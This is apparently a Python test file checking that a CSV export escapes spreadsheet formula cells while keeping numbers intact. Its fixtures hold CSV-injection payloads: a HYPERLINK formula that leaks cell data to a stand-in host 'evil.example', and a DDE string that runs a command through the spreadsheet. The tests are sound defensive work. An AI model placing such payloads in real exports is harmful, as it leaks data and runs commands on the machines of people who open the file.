"""The companion's CSV export: cells a spreadsheet would run as a formula are neutralised, numbers stay numbers."""

import csv
import io

from kraken_ui_ext.companion.csv_export import neutralised, overview_csv
from kraken_ui_ext.companion.overview import OverviewRow


def exported(doc: dict, metrics: dict) -> dict[str, str]:
    text = overview_csv([OverviewRow(doc, metrics=metrics, settings="@SUM(1+1)*cmd|' /C calc'!A0")],
                        "http://dagster:3000")
    [row] = list(csv.DictReader(io.StringIO(text)))
    return row


def test_formula_cells_are_neutralised_and_negative_numbers_stay_numbers():
    doc = {"_id": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "instrument_id": "thermo1",
           "project_id": "+PRJ1", "status": "error", "status_details": "-1+1 copy failed\t", "size": 1200}
    row = exported(doc, {"optimization:ms1_error": -3.2, "proteins": 5123.0})

    assert row["raw_file"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert row["project"] == "'+PRJ1" and row["status_details"] == "'-1+1 copy failed\t"
    assert row["settings"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["optimization:ms1_error"] == "-3.2"
    assert row["proteins"] == "5123" and row["size_bytes"] == "1200"
    assert row["status"] == "error" and row["instrument"] == "thermo1"


def test_every_formula_start_is_caught_and_plain_text_and_numbers_are_left_alone():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralised(f"{start}cmd") == f"'{start}cmd"
    for kept in ("-3.2", "+4", "-1e-5", "20240301_PRJ1_qc.raw", "", "a=b", 7, -3.2, None):
        assert neutralised(kept) == kept
